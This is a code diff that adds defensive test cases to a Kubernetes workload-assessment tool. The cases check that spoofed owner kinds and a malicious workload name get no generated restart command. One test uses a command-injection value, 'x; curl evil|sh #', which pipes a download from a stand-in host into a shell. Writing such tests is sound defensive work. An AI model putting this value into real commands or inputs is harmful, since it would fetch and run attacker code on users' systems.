@@ -172,10 +172,26 @@ describe('what to do, by kind', () => {
       { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', name: 'cart' },
       /with the tool of its kind/,
     ],
+    [
+      'a kind that only has the name of a known one',
+      { apiVersion: 'evil/v1', kind: 'StatefulSet', name: 'cart' },
+      /with the tool of its kind/,
+    ],
   ])('%s gets no restart command', (_, owner, detail) => {
     const action = stale([ownedPod(owner)]);
     expect(action?.detail).toMatch(detail);
     expect(action?.command).toBeUndefined();
+  });
+
+  it('puts no name into a command that is one itself', () => {
+    const name = 'x; curl evil|sh #';
+    const kind = 'StatefulSet';
+    const pod = ownedPod({ apiVersion: 'apps/v1', kind, name });
+    const { action } = assessRawWorkload([...rawMesh(), pod], {
+      name,
+    }).revision;
+    expect(action?.title).toBe(`Restart ${name}`);
+    expect(action).not.toHaveProperty('command');
   });
 
   it('a managed gateway is upgraded by istiod', () => {
